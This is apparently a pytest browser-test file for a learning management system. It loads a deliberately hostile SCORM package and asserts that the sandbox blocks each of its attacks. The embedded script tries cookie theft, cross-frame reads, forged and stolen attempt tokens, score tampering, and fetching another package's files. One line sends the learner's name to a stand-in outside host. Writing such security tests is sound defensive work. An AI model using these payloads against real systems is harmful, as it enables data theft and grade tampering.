"""A package made by an enemy: what it tries from inside a learner's browser, and what it gets."""

from __future__ import annotations

import json

import pytest
from sqlalchemy import select

from lms.catalog.queries import get_activity
from lms.db import unscoped
from lms.learning.models import Attempt, Progress
from lms.learning.services import open_attempt
from lms.learning.tokens import package_url
from tests.browser.live import serve
from tests.browser.package_visit import PackageVisit, make_room
from tests.factories.courses import LESSON_2004, MANIFEST_2004, course_with_package, scorm_zip
from tests.factories.learning import enrol, make_class, make_learner

pytestmark = pytest.mark.browser

HOSTILE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Enemy</title></head><body>
<h1>Enemy</h1><pre id="found"></pre><script>
let api = null; for (let w = window; w && !api; w = w.parent === w ? null : w.parent) { try { api = w.API || null; } catch { break; } }
const run = () => JSON.parse(parent.document.getElementById("run").textContent);
const app = new URL(document.referrer || "http://127.0.0.1").origin;
async function attempt(name, act) {
  try { found[name] = await act(); } catch (error) { found[name] = "refused: " + error.name; }
  document.getElementById("found").textContent = JSON.stringify(found);
}
const found = {};
const post = (url, body) => fetch(url, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) });
async function attack(targets) {
  await attempt("cookies", () => document.cookie);
  await attempt("cookie for all", () => { document.cookie = "bouquet=stolen; path=/; domain=localhost"; document.cookie = "bouquet=stolen; path=/; domain=127.0.0.1"; return document.cookie; });
  await attempt("page of the application", () => parent.parent.document.title);
  await attempt("storage of the application", () => parent.parent.localStorage.length);
  await attempt("own storage", () => { localStorage.setItem("mine", "1"); return localStorage.getItem("mine"); });
  await attempt("storage left by another package", () => localStorage.getItem("left"));
  await attempt("application route", () => fetch(targets.app + "/healthz", { credentials: "include" }).then((r) => r.status));
  await attempt("application act", () => fetch(targets.app + targets.act, { method: "POST", mode: "no-cors", credentials: "include", body: "do=done" }).then((r) => r.type));
  await attempt("picture of the application", () => new Promise((done) => { const i = new Image(); i.onload = () => done("shown"); i.onerror = () => done("refused"); i.src = targets.app + "/static/img/favicon.svg"; }));
  await attempt("form to the application", () => { const f = document.createElement("form"); f.method = "post"; f.action = targets.app + targets.act; f.target = "nowhere"; document.body.append(f); f.submit(); return "sent"; });
  await attempt("token of another package", () => fetch(targets.other).then((r) => r.status));
  await attempt("token of another package, here", () => fetch(new URL(targets.other).pathname).then((r) => r.status));
  await attempt("attempt of another learner", () => post(new URL(targets.learner).pathname.replace("/frame", "/commit"), { sco: "item-1", launch: 1, sequence: 1, visit: 1, data: { "cmi.core.lesson_status": "passed" } }).then((r) => r.status));
  await attempt("token of another learner, as one's own", () => { const token = (path) => path.split("/")[2]; const mine = token(run().commit), theirs = token(new URL(targets.learner).pathname); return post(`/t/${mine.slice(0, mine.lastIndexOf("."))}.${theirs.slice(theirs.lastIndexOf(".") + 1)}/commit`, {}).then((r) => r.status); });
  await attempt("forged token", () => post("/t/" + "x".repeat(80) + "/commit", {}).then((r) => r.status));
  await attempt("score out of bounds", () => { api.LMSInitialize(""); const kept = api.LMSSetValue("cmi.core.score.raw", "4000"); return kept + " " + api.LMSGetLastError(); });
  await attempt("score out of bounds, by hand", async () => {
    const opened = await (await post(run().open, {})).json();
    const answer = await post(run().commit, { sco: "item-1", launch: opened.launch, sequence: 1, visit: 1, data: { "cmi.core.score.raw": "4000", "cmi.core.session_time": "9999:00:00", "cmi.core.lesson_status": "incomplete" } });
    return (await answer.json()).refused.join();
  });
  await attempt("another package's file", () => fetch(targets.file).then((r) => r.status));
  await attempt("another package's page in a frame", () => new Promise((done) => { const f = document.createElement("iframe"); f.onload = () => { try { done(f.contentDocument.body ? "read" : "empty"); } catch (error) { done("refused: " + error.name); } }; f.src = targets.file; document.body.append(f); setTimeout(() => done("refused: nothing loaded"), 2000); }));
  await attempt("data out to another site", () => fetch("https://collect.example.org/?name=" + encodeURIComponent(api.LMSGetValue("cmi.core.student_name"))).then(() => "sent"));
  await attempt("new address from the page", () => new Promise((done) => { addEventListener("message", (event) => done("heard " + JSON.stringify(event.data))); parent.parent.postMessage({ from: "bouquet-package", state: "expired" }, "*"); setTimeout(() => done("silence"), 800); }));
  await attempt("what a device keeps of others", () => new Promise((done) => { addEventListener("message", (event) => done("heard " + JSON.stringify(event.data))); parent.parent.postMessage({ from: "bouquet-package", state: "ask" }, "*"); setTimeout(() => done("silence"), 800); }));
  await attempt("a worker that stays", () => navigator.serviceWorker.register("index.html").then(() => "stays"));
  await attempt("camera", () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => "seen"));
  await attempt("parent of the frame, by name", () => { parent.parent.location = "https://example.org/"; return "asked"; });
  await attempt("words to the page", () => { parent.parent.postMessage({ from: "bouquet-package", state: "<b>free text</b>" }, "*"); return "sent"; });
  await attempt("top of the window", () => { top.location = "https://example.org/"; return "asked"; });
  document.title = "done";
}
</script></body></html>"""


@pytest.fixture(scope="module")
def live(tmp_path_factory):
    yield from serve(tmp_path_factory.mktemp("live"))


@pytest.fixture(scope="module")
def room(live):
    """A course with the enemy's package, and addresses that its author must never be able to use."""
    house, hub = live.house, live.world.a
    with house.sessions() as session, unscoped(session):
        room = make_class(session, house, hub, course_with_package(scorm_zip({"index.html": HOSTILE})))
        other = make_class(session, house, hub, course_with_package(scorm_zip()), reference="S-2")
        second = enrol(session, room.session, make_learner(session, hub))
        enemy = get_activity(session, room.version.id, "module-scorm")
        harmless = get_activity(session, other.version.id, "module-scorm")
        attempts = {
            "learner": (open_attempt(session, enrolment=second, activity=enemy), enemy, second.person_id),
            "other": (open_attempt(session, enrolment=other.enrolment, activity=harmless), harmless, hub.learner.id),
        }
        session.commit()
        room.targets = {"app": live.url, "act": room.url("page-accueil", "act")} | {
            name: package_url(
                house.settings, hub=hub.hub.id, package=activity.data["package"], attempt=attempt.id, person=person
            )
            for name, (attempt, activity, person) in attempts.items()
        }
        room.targets["file"] = room.targets["other"].replace("/frame", "/p/index.html")
        room.victim = attempts["learner"][0].id
    return room


@pytest.fixture(scope="module")
def found(live, room, browser):
    """What the enemy found, and where the window was afterwards."""
    page = browser.new_context().new_page()
    live.sign_in(page, live.world.a.learner)
    page.goto(live.url + room.url("module-scorm"))
    frame = page.frame_locator("iframe.player-frame").frame_locator("#lesson")
    frame.locator("h1").wait_for()
    lesson = next(one for one in page.frames if one.url.endswith("/p/index.html"))
    lesson.evaluate("targets => attack(targets)", room.targets)
    lesson.wait_for_function("document.title === 'done'")
    page.wait_for_timeout(500)
    result = json.loads(frame.locator("#found").text_content())
    result["window"] = page.url
    result["said"] = page.locator("[data-package-state]").text_content()
    result["cookies of the browser"] = [(one["name"], one["domain"]) for one in page.context.cookies()]
    yield result
    page.context.close()


def test_no_cookie_of_the_application_is_seen_nor_written(found):
    assert "bouquet" not in found["cookies"]
    assert all(domain == "127.0.0.1" for name, domain in found["cookies of the browser"] if name == "bouquet")


@pytest.mark.parametrize("what", ["page of the application", "storage of the application"])
def test_the_applications_page_is_out_of_reach(found, what):
    assert found[what] == "refused: SecurityError"


def test_storage_is_the_packages_own_or_none_at_all(found):
    # a browser that blocks the storage of frames of another site gives none
    assert found["own storage"] in {"1", "refused: SecurityError"}
    assert found["storage left by another package"] in {None, "refused: SecurityError"}


@pytest.mark.parametrize("what", ["application route", "application act"])
def test_the_applications_routes_cannot_be_called(found, what):
    assert found[what].startswith("refused")


def test_no_picture_of_the_application_can_be_asked_for(found):
    assert found["picture of the application"] == "refused"


def test_nothing_was_done_in_the_learners_name(live, room, found):
    with live.house.sessions() as session, unscoped(session):
        read = select(Progress.status).where(
            Progress.enrolment_id == room.enrolment.id, Progress.activity_key == "page-accueil"
        )
        assert session.scalar(read) is None


def test_another_packages_token_opens_nothing(found):
    assert found["token of another package"].startswith("refused")
    assert found["token of another package, here"] == 403


def test_another_learners_attempt_is_not_changed(live, room, found):
    # the same package, hence the same host: only a token stolen whole gets there, and it needs the run that is open
    assert found["attempt of another learner"] == 409
    with live.house.sessions() as session, unscoped(session):
        assert session.get(Attempt, room.victim).completion == "incomplete"


@pytest.mark.parametrize("what", ["forged token", "token of another learner, as one's own"])
def test_a_forged_token_is_refused(found, what):
    assert found[what] == 403


@pytest.mark.parametrize("what", ["another package's file", "another package's page in a frame"])
def test_another_packages_files_cannot_be_read(found, what):
    assert found[what].startswith("refused")


def test_nothing_goes_out_to_another_site_and_nothing_stays_behind(found):
    assert found["data out to another site"].startswith("refused")
    assert found["a worker that stays"].startswith("refused")
    assert found["camera"].startswith("refused")


@pytest.mark.parametrize("what", ["new address from the page", "what a device keeps of others"])
def test_the_page_answers_its_own_frame_only(found, what):
    assert found[what] == "silence"


def test_a_score_out_of_bounds_is_refused_by_the_run_time_and_by_the_server(live, room, found):
    assert found["score out of bounds"].startswith("false")
    assert found["score out of bounds, by hand"] == "cmi.core.score.raw"
    with live.house.sessions() as session, unscoped(session):
        attempt = session.scalars(
            select(Attempt).where(Attempt.enrolment_id == room.enrolment.id, Attempt.activity_key == "module-scorm")
        ).one()
        assert attempt.score is None
        assert attempt.seconds < 120


def test_the_window_stays_where_it_is_and_says_only_its_own_words(live, found):
    assert found["window"].startswith(live.url)
    assert "free text" not in found["said"]


def test_a_lesson_is_saved_shown_as_saved_and_resumed(live, browser):
    visit = PackageVisit(live, browser, make_room(live, scorm_zip(), "S-2", live.world.b)).open()
    visit.lesson().evaluate("finish(85)")
    visit.saved()
    assert "Enregistré à" in visit.page.locator("[data-package-state]").text_content()
    progress = visit.progress()
    assert (progress.status, progress.success, progress.score) == ("done", "passed", 0.85)
    visit.open()
    assert visit.lesson().evaluate("api.LMSGetValue('cmi.suspend_data')") == "place=3"
    visit.close()


def test_a_2004_package_of_two_lessons_is_done_when_both_are(live, browser):
    package = scorm_zip({"index.html": LESSON_2004}, manifest=MANIFEST_2004)
    visit = PackageVisit(live, browser, make_room(live, package, "S-3", live.world.b)).open()
    assert visit.lesson().evaluate("finish(0.6)") == ",".join(["true"] * 7)
    visit.attempt(lambda one: "item-1" in one.state.get("scos", {}))
    assert visit.progress().status == "started"
    visit.choose("item-2")
    assert visit.lesson().evaluate("api.GetValue('cmi.suspend_data')") == ""
    assert visit.lesson().evaluate("finish(1)") == ",".join(["true"] * 7)
    visit.attempt(lambda one: one.completion == "completed")
    done = visit.progress()
    assert (done.status, done.success, done.score) == ("done", "passed", 0.8)
    visit.close()
